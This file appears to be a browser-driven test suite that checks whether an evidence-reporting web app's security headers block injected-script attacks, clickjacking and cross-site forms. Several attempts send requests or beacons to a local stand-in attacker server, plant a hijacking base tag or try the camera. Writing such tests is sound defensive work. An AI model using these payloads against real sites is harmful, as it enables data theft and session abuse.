import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { printTable } from "#test/support/print-table.ts";
import { until } from "#test/support/until.ts";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launchBrowser, PAGE_MILLIS } from "#test/support/browser.ts";
import { freePort } from "#test/support/free-port.ts";
import { PASSWORD } from "#test/support/open-test-office.ts";
import { openDeskOffice, type DeskOffice } from "../routes/desk/desk-office.ts";

// A real browser tries what the headers forbid. Headers are not read here: what counts is what the browser does.

let office: DeskOffice;
let browser: Browser;
let attacker: { readonly server: Server; readonly origin: string };
const seenElsewhere: string[] = [];

beforeAll(async () => {
  office = await openDeskOffice();
  await office.as("prosecutor");
  attacker = await openAttacker();
  browser = await launchBrowser([
    // A camera that works and is always allowed: only the page's own policy can stop it.
    "--use-fake-device-for-media-stream",
    "--use-fake-ui-for-media-stream",
  ]);
});

afterAll(async () => {
  await browser.close();
  attacker.server.close();
  await office.remove();
});

/** Another site: it frames what it is told to, and notes whoever asks it for anything. */
async function openAttacker() {
  const port = await freePort();
  const server = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? "/", "http://localhost");
    seenElsewhere.push(pathname);
    response.setHeader("Content-Type", "text/html");
    response.setHeader("Access-Control-Allow-Origin", "*");
    const target = searchParams.get("target") ?? "";
    response.end(
      pathname === "/frame"
        ? `<iframe id="victim" src="${target}"></iframe>`
        : pathname === "/post"
          ? `<form method="post" action="${target}"><input name="narrative" value="x"></form>`
          : "<p>elsewhere</p>",
    );
  }).listen(port, "127.0.0.1");
  await once(server, "listening");
  // By number, not by name: another site as well as another origin.
  return { server, origin: `http://127.0.0.1:${port}` };
}

interface Watched {
  readonly context: BrowserContext;
  readonly page: Page;
  /** Directives that stopped something, as the browser itself tells. */
  readonly violations: () => Promise<readonly string[]>;
}

async function openPage(options: { readonly signedIn?: boolean } = {}): Promise<Watched> {
  const context = await browser.newContext({ baseURL: office.origin });
  context.setDefaultTimeout(PAGE_MILLIS);
  const stopped: string[] = [];
  context.on("console", (message) => {
    const found = /Content Security Policy directive[^"]*"([a-z-]+)/.exec(message.text());
    if (message.type() === "error" && found !== null) stopped.push(found[1] ?? "");
  });
  const page = await context.newPage();
  if (options.signedIn === true) await signIn(page);
  return { context, page, violations: () => Promise.resolve(stopped) };
}

async function signIn(page: Page): Promise<void> {
  await page.goto("/desk/sign-in");
  await page.locator('[name="sign-in-name"]').fill("prosecutor");
  await page.locator('[name="password"]').fill(PASSWORD);
  await Promise.all([
    page.waitForURL((url) => !url.pathname.includes("sign-in")),
    page.locator('form[method="post"] button').first().click(),
  ]);
}

/** What a script that got in somehow would try; each answers true when it worked. */
const ATTEMPTS: Readonly<Record<string, (page: Page) => Promise<boolean>>> = {
  "inline script": (page) =>
    inPage(
      page,
      `const s = document.createElement("script");
      try { s.textContent = "window.ran = 1"; } catch { return false; }
      document.head.append(s); return window.ran === 1;`,
    ),
  "inline handler": (page) =>
    inPage(
      page,
      `const b = document.createElement("button"); try { b.setAttribute("onclick", "window.hit = 1"); } catch { return false; }
      document.body.append(b); b.click(); return window.hit === 1;`,
    ),
  "style attribute": (page) =>
    inPage(
      page,
      `const d = document.createElement("div"); d.setAttribute("style", "color: rgb(1, 2, 3)");
      document.body.append(d); return getComputedStyle(d).color === "rgb(1, 2, 3)";`,
    ),
  "script of another origin": (page) => inPage(page, loads("script", "src", "script")),
  "picture of another origin": (page) => inPage(page, loads("img", "src", "picture")),
  "frame of another origin": (page) => inPage(page, loads("iframe", "src", "framed")),
  "object of another origin": (page) => inPage(page, loads("object", "data", "object")),
  "fetch elsewhere": (page) =>
    inPage(
      page,
      `try { await fetch("${attacker.origin}/fetched"); return true; } catch { return false; }`,
    ),
  "beacon elsewhere": (page) =>
    inPage(
      page,
      `navigator.sendBeacon("${attacker.origin}/beacon"); await new Promise((r) => setTimeout(r, 200)); return false;`,
    ),
  "form elsewhere": async (page) => {
    await inPage(
      page,
      `const f = document.createElement("form"); f.action = "${attacker.origin}/form";
      f.method = "post"; document.body.append(f); f.submit(); return false;`,
    );
    await page.waitForTimeout(200);
    return !page.url().startsWith(office.origin);
  },
  "base tag": (page) =>
    inPage(
      page,
      `const b = document.createElement("base"); b.href = "${attacker.origin}/";
      document.head.prepend(b); const a = document.createElement("a"); a.setAttribute("href", "x");
      return a.href.startsWith("${attacker.origin}");`,
    ),
  camera: (page) =>
    inPage(
      page,
      `try { await navigator.mediaDevices.getUserMedia({ video: true }); return true; }
      catch (e) { return false; }`,
    ),
  "where we are": (page) =>
    inPage(
      page,
      `return new Promise((r) => navigator.geolocation.getCurrentPosition(() => r(true),
      (e) => r(!e.message.includes("permissions policy")), { timeout: 1000 }));`,
    ),
};

function loads(element: string, attribute: string, path: string): string {
  return `const e = document.createElement("${element}");
    const done = new Promise((r) => { e.onload = () => r("loaded"); e.onerror = () => r("stopped"); setTimeout(() => r("late"), 400); });
    try { e.setAttribute("${attribute}", "${attacker.origin}/${path}"); } catch { return false; } document.body.append(e); await done; return false;`;
}

/** Runs in the page as the debugger would, which no policy stops; what it then does, the policy judges. */
function inPage(page: Page, body: string): Promise<boolean> {
  return page.evaluate<boolean>(`(async () => { ${body} })()`);
}

/** Tries everything on one page; answers what worked. */
async function tryAll(page: Page, path: string): Promise<readonly string[]> {
  const worked: string[] = [];
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    // What the attempt before set going may still be on its way and cut this one off.
    await until(async () => (await page.goto(path).catch(() => null)) !== null);
    seenElsewhere.length = 0;
    if ((await attempt(page)) || seenElsewhere.length > 0) worked.push(name);
  }
  tried.push([path, String(Object.keys(ATTEMPTS).length), String(worked.length)]);
  return worked;
}

/** What was tried, for a reader of the run; the last row is of the page whose policy was taken away. */
const tried = [["page", "attempts", "worked"]];
afterAll(() => {
  printTable("B2: what a script that got in would try", tried);
});

const PUBLIC = ["/", "/report/evidence", "/follow-up", "/no/such/page"];
const AT_DESK = ["/desk/queue", "/desk/account"];

describe("what a page must not do", () => {
  test.each(PUBLIC)("%s: every attempt is stopped", async (path) => {
    const { context, page } = await openPage();
    expect(await tryAll(page, path)).toEqual([]);
    await context.close();
  });

  test("at the desk every attempt is stopped, text turned into script too", async () => {
    const { context, page } = await openPage({ signedIn: true });
    for (const path of AT_DESK) expect(await tryAll(page, path)).toEqual([]);
    await page.goto("/desk/queue");
    // A plain text may not become markup or code. The pause matters: what the debugger itself runs may still evaluate.
    for (const sink of [
      "document.body.innerHTML = '<b>x</b>'",
      "eval('1 + 1')",
      "new Function('1')",
    ]) {
      expect(
        await inPage(
          page,
          `await new Promise((r) => setTimeout(r)); try { ${sink}; return true; } catch { return false; }`,
        ),
      ).toBe(false);
    }
    await context.close();
  });

  test("nobody can frame a page or hold on to its window", async () => {
    const { context, page } = await openPage();
    for (const path of ["/", "/desk/sign-in"]) {
      await page.goto(
        `${attacker.origin}/frame?target=${encodeURIComponent(office.origin + path)}`,
      );
      await page.waitForTimeout(300);
      const frames = page.frames().filter((frame) => frame.url().startsWith(office.origin));
      expect(frames).toEqual([]);
    }
    await page.goto(`${attacker.origin}/`);
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      page.evaluate(`window.held = window.open("${office.origin}/"); undefined`),
    ]);
    await popup.waitForLoadState();
    expect(await popup.evaluate("window.opener === null")).toBe(true);
    expect(await page.evaluate("window.held.closed")).toBe(true);
    await context.close();
  });

  test("a form on another site reaches no one", async () => {
    const { context, page } = await openPage();
    const target = encodeURIComponent(`${office.origin}/report/start`);
    await page.goto(`${attacker.origin}/post?target=${target}`);
    await Promise.all([
      page.waitForURL(`${office.origin}/**`),
      page.evaluate("document.forms[0].submit()"),
    ]);
    expect(await page.locator("h1").textContent()).toContain("did not come from our own page");
    await context.close();
  });
});

test("ordinary use breaks no rule, and forms pass without script", async () => {
  const context = await browser.newContext({ baseURL: office.origin, javaScriptEnabled: false });
  const page = await context.newPage();
  await page.goto("/");
  const [posted] = await Promise.all([
    page.waitForRequest((request) => request.method() === "POST"),
    page.waitForURL("**/report/what-happened"),
    page.locator('form[action="/report/start"] button').click(),
  ]);
  // Under `no-referrer` a browser says "null" here, and one that sends no Sec-Fetch-Site could not report at all (finding 8).
  expect((await posted.allHeaders())["origin"]).toBe(office.origin);
  await context.close();
  const watched = await openPage({ signedIn: true });
  for (const path of [...PUBLIC, "/check-receipt", "/report/what-happened", ...AT_DESK]) {
    await watched.page.goto(path);
  }
  expect(await watched.violations()).toEqual([]);
  await watched.context.close();
});

test("a weak header is found: the same attempts work where the policy is taken away", async () => {
  const { context, page } = await openPage();
  await page.route("**/*", async (route) => {
    if (!route.request().url().startsWith(office.origin)) return route.continue();
    const response = await route.fetch();
    const headers = {
      ...response.headers(),
      "content-security-policy": "default-source 'none'",
      "permissions-policy": "kamera=()",
    };
    return route.fulfill({ response, headers });
  });
  const worked = await tryAll(page, "/");
  for (const name of [
    "inline script",
    "inline handler",
    "style attribute",
    "camera",
    "base tag",
    "form elsewhere",
  ]) {
    expect(worked).toContain(name);
  }
  await context.close();
});
